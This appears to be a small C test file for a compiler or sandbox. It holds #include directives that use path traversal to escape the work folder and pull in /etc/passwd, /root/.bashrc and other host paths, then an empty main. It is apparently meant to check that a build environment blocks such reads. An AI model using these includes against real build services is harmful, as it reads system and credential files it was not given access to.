// Climbs out of the work folder, to what every host has.
#include "../../../../../../etc/passwd"
#include "/w/../root/.bashrc"
#include "/usr/local/../../home"
#include </../tmp>
int main(void) { return 0; }
